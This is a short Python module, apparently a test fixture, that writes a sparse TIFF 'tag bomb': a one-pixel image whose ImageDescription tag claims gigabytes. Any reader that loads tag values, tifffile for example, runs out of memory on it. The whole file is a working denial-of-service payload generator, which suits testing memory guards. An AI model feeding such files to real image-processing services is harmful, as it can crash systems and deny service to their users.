"""A hostile TIFF: a 1x1 image whose ImageDescription tag declares gigabytes, written as a sparse file.

The file takes a few KiB of disk but any TIFF reader that loads tag values (tifffile does) must
allocate the whole tag: it exceeds memory through metadata, where no declared-data-size guard looks.
"""
import struct
from pathlib import Path

IMAGE_DESCRIPTION = 270
_DESCRIPTION_AT = 4096


def _entry(tag: int, kind: int, count: int, value: int) -> bytes:
    return struct.pack("<HHIi", tag, kind, count, value)


def make_tag_bomb_tiff(folder: Path, tag_bytes: int = 3 * 1024**3, name: str = "bomb.tif") -> Path:
    """A little-endian TIFF with one 8-bit pixel and a `tag_bytes` ImageDescription of zeros."""
    short, ascii_, long_ = 3, 2, 4
    entries = [
        _entry(256, short, 1, 1), _entry(257, short, 1, 1), _entry(258, short, 1, 8), _entry(259, short, 1, 1),
        _entry(262, short, 1, 1), _entry(IMAGE_DESCRIPTION, ascii_, tag_bytes, _DESCRIPTION_AT),
        _entry(273, long_, 1, 200), _entry(277, short, 1, 1), _entry(278, short, 1, 1), _entry(279, long_, 1, 1),
    ]
    path = Path(folder) / name
    with open(path, "wb") as handle:
        handle.write(b"II*\x00" + struct.pack("<I", 8))
        handle.write(struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", 0))
        handle.seek(200)
        handle.write(b"\x80")
        handle.truncate(_DESCRIPTION_AT + tag_bytes)  # a hole: no disk used
    return path
